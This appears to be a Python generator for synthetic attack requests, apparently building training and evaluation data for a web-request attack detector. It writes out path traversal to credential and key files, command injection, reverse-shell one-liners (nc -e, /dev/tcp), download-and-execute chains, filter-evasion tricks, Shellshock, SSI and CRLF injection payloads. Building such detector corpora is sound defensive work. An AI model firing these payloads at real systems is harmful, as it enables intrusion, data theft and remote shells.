"""Attacks on files, shells and the protocol."""

from __future__ import annotations

import random
from collections.abc import Callable
from urllib.parse import quote

from weir_models.request_attack.corpus.placing import PATHS, Request, browser, referer, word

R = random.Random

FILES = """
    etc/passwd etc/shadow etc/hosts etc/group etc/issue proc/self/environ proc/version var/log/apache2/access.log
    windows/win.ini boot.ini windows/system32/drivers/etc/hosts WEB-INF/web.xml etc/nginx/nginx.conf
    root/.ssh/id_rsa home/user/.bash_history var/www/html/config.php etc/mysql/my.cnf winnt/win.ini inetpub/logs
    usr/local/etc/php.ini etc/crontab
""".split()
COMMANDS = ("id", "whoami", "ls", "ls -la", "ls /", "cat /etc/passwd", "uname -a", "ps aux", "netstat -an", "ifconfig", "pwd", "env", "dir",
    "dir c:\\", "ipconfig /all", "type c:\\windows\\win.ini", "net user", "hostname", "ping -c 3 127.0.0.1", "ping -n 5 127.0.0.1",
    "sleep 5", "sleep 10", "echo x", "printenv", "df -h", "cat /etc/hosts", "tail /var/log/syslog", "find / -name x", "rm -rf /tmp/x",
    "touch /tmp/x", "which python", "systeminfo", "tasklist", "ver", "set", "w", "last", "reboot", "cat config.php",
    "grep root /etc/passwd", "set /a 7*191")  # fmt: skip


def climbing(r: R) -> str:
    """Up the tree and down to a file."""
    up = r.choice(("../", "../", "..\\", "....//", "..;/", ".././", "..//", "..\\/", "..%2f", "..%252f", "%2e%2e/", "%2e%2e%2f", "..%c0%af",
        "..%5c", "%c0%ae%c0%ae/", "..%u2215", "/..", "\\..", "..0x2f", "..../"))  # fmt: skip
    return (
        r.choice(("", "", "/", word(r) + "/", "static/", "./"))
        + up * r.randint(1, 12)
        + r.choice((r.choice(FILES), r.choice(FILES).replace("/", up[-1:]), word(r) + ".php", ""))
        + r.choice(("", "", "", "%00", "%00.jpg", "\x00.html", "?", "/."))
    )


def absolute(r: R) -> str:
    """A file by its full name."""
    return (
        r.choice(("/", "/", "//", "file:/", "c:/", "c:\\", "C:\\\\", "/./", "\\\\localhost\\c$\\", ""))
        + r.choice(FILES)
        + r.choice(("", "", "%00", "\x00.png"))
    )


def _word_in_quotes(r: R, command: str) -> str:
    """Quotes and backslashes that a shell leaves out."""
    if r.random() < 0.8 or len(command) < 4:
        return command
    at = r.randint(1, len(command) - 2)
    return command[:at] + r.choice(("''", '""', "\\", "'", "$@")) + command[at:]


def _command(r: R) -> str:
    host = f"{word(r)}.com"
    payload = r.choice((r.choice(COMMANDS), r.choice(COMMANDS), f"wget http://{host}/{word(r)}.sh", f"curl http://{host}/{word(r)}",
        f"nslookup {host}", f"nc -e /bin/sh {host} {r.randint(80, 9999)}",
        f"bash -i >& /dev/tcp/10.0.0.{r.randint(1, 9)}/{r.randint(80, 9999)} 0>&1",
        f"/bin/{r.choice(('cat', 'ls', 'id', 'sh', 'ping', 'sleep 5', 'bash -c id'))}",
        f"/usr/bin/{r.choice(('id', 'whoami', 'wget', 'perl', 'env'))}", "python -c 'import os;os.system(\"id\")'",
        "perl -e 'system(\"id\")'", f"powershell -enc {word(r)}", f"cmd /c {r.choice(('dir', 'whoami', 'ipconfig'))}", "cmd.exe /c dir",
        f"expr {r.randint(1, 999)} + {r.randint(1, 999)}", f"chmod 777 {word(r)}", "cat$IFS/etc/passwd", "cat${IFS}/etc/passwd",
        f"ping$IFS-c${{IFS}}1$IFS{host}", "{cat,/etc/passwd}", "cat</etc/passwd", f"wget http://{host}/x -O- | sh",
        f"echo {word(r)} | base64 -d | sh", f"cd /tmp; wget http://{host}/{word(r)}; chmod +x {word(r)}; ./{word(r)}",
        "/???/??t /???/p??s??", f"printf {word(r)}|sh", f"getent hosts {host}", f"echo $(({r.randint(1, 999)}*{r.randint(1, 999)}))",
        "cat /etc/pass*", f"busybox telnetd -p {r.randint(1, 9999)}", f"tftp -g -r {word(r)} {host}",
        f"certutil -urlcache -f http://{host}/x.exe x.exe"))  # fmt: skip
    return _word_in_quotes(r, payload)


def command(r: R) -> str:
    """A command after a separator."""
    start = r.choice(("", "", word(r), "127.0.0.1", "1", "x.jpg", f"{word(r)}@{word(r)}.com", '"', "'"))
    separator = r.choice(
        (";", "; ", "|", " | ", "||", "&&", " && ", "&", " & ", "\n", "%0a", "\r\n", "';", '";', "'|", '"|', ";;", "|&")
    )
    return (
        f"{start}{separator}{_command(r)}{r.choice(('', '', '', ';', '|', '&', ' #', '||', ' &&', chr(34), chr(39)))}"
    )


def substitution(r: R) -> str:
    """A command in backticks or $( )."""
    inner = _command(r)
    return (
        r.choice(("", word(r), "x"))
        + r.choice(
            (f"`{inner}`", f"$({inner})", f'"`{inner}`"', f"'$({inner})'", f";`{inner}`;", f"|`{inner}`", f"<({inner})")
        )
        + r.choice(("", "", word(r)))
    )


def alone(r: R) -> str:
    """A command as the whole value, for parameters that a shell receives."""
    while True:
        payload = _command(r)
        if any(c in payload for c in "/$|-:;&") or payload in (
            "whoami",
            "ifconfig",
            "netstat -an",
            "systeminfo",
            "tasklist",
            "net user",
        ):
            return payload


def shellshock(r: R) -> Request:
    """Function definitions that old shells run on."""
    payload = f"() {{ {r.choice((':;', ':; ', '_;', 'x;', ' :;'))}}}{r.choice(('; ', ';', ' ; echo; '))}{_command(r)}"
    where = r.random()
    agent, origin = (payload, referer(r)) if where < 0.7 else (browser(r), payload)
    return Request("GET", r.choice((*PATHS, "/cgi-bin/test.cgi", "/cgi-bin/status")), None, agent, origin)


def include(r: R) -> str:
    """Server-side includes."""
    return r.choice((f'<!--#exec cmd="{_command(r)}"-->', '<!--#include virtual="/etc/passwd"-->', '<!--#include file="/proc/version"-->',
        '<!--#echo var="DATE_LOCAL" -->', f"<!--#exec cmd='{r.choice(COMMANDS)}' -->", "<!--#printenv -->",
        f'--><!--#exec cmd="{r.choice(COMMANDS)}"--><!--'))  # fmt: skip


def header(r: R) -> str:
    """Line ends that begin a header, a body or a command of another protocol."""
    end = r.choice(("\r\n", "\n", "\r", "%0d%0a", "%0a", "%0D%0A", "%0d%0a%20", "\\r\\n", "%E5%98%8D%E5%98%8A", "%23%0d%0a", "\r\n\t",
        "%250d%250a", "%3f%0d%0a"))  # fmt: skip
    payload = r.choice((f"Set-Cookie: {word(r)}={word(r)}", f"Location: http://{word(r)}.com/", "Content-Length: 0",
        f"X-{word(r).title()}: {word(r)}", f"{word(r).title()}-{word(r).title()}: {word(r)}",
        f"Content-Type: text/html{end}{end}<b>{word(r)}</b>", f"HTTP/1.1 200 OK{end}Content-Length: 9", f"GET /{word(r)} HTTP/1.1",
        f"bcc: {word(r)}@{word(r)}.com", f"RCPT TO:<{word(r)}@{word(r)}.com>", "QUIT", f"Host: {word(r)}.com",
        f"A1 LOGIN {word(r)} {word(r)}", "DATA", "Transfer-Encoding: chunked", f"Refresh: 0;url=http://{word(r)}.com"))  # fmt: skip
    return f"{r.choice(('', word(r), str(r.randint(1, 99)), '/'))}{end}{payload}{r.choice(('', '', end))}"


def strange(r: R) -> Request:
    """Methods, paths and bytes that no browser sends."""
    path, query, method = r.choice(PATHS), None, "GET"
    kind = r.randint(0, 6)
    if kind == 0:
        method = r.choice(("TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND", "MKCOL", "SEARCH", "UNLOCK", word(r).upper() + "X" * 14,
            "GET\x00", "!" + word(r)))  # fmt: skip
    elif kind == 1:
        method, path = (
            "PUT",
            f"/{word(r)}.{r.choice(('jsp', 'jsp/', 'php', 'asp', 'txt', 'aspx', 'html', 'jsp%20', 'jsp::$DATA'))}",
        )
    elif kind == 2:
        path = f"{path}/{r.choice(('A', 'a', '0', 'x')) * 0}{'A' * r.randint(300, 2000)}"
    elif kind == 3:
        query = (
            f"{word(r)}=" + "%n" * r.randint(4, 20)
            if r.random() < 0.5
            else f"{word(r)}=" + "%25s%25p%25x" * r.randint(3, 9)
        )
    elif kind == 4:
        path = f"{path}/{word(r)}%00.{r.choice(('html', 'jpg', 'php'))}"
    elif kind == 5:
        path = f"http://{word(r)}.com/{word(r)}"
    else:
        path = f"{path}/%c0%ae%c0%ae/%c0%ae%c0%ae/{word(r)}"
    return Request(method, path, query, browser(r), referer(r))


def climbing_path(r: R) -> Request:
    """Up the tree in the path itself."""
    payload = climbing(r)
    if r.random() < 0.3:
        payload = quote(payload, safe="/")
    return Request("GET", f"{r.choice(PATHS).rstrip('/')}/{payload}", None, browser(r), referer(r))


FAMILIES: tuple[tuple[str, str, str, float, Callable[[R], str | Request]], ...] = (
    ("path_traversal", "climbing", "fit", 1.5, climbing), ("path_traversal", "absolute", "evaluate", 0.8, absolute), ("path_traversal", "climbing_path", "calibrate", 0.8, climbing_path), ("command_injection", "command", "fit", 2.0, command), ("command_injection", "substitution", "evaluate", 1.0, substitution), ("command_injection", "alone", "calibrate", 0.8, alone), ("command_injection", "shellshock", "fit", 0.5, shellshock), ("command_injection", "include", "evaluate", 0.5, include), ("protocol_abuse", "header", "fit", 1.0, header), ("protocol_abuse", "strange", "evaluate", 0.7, strange),
)  # fmt: skip
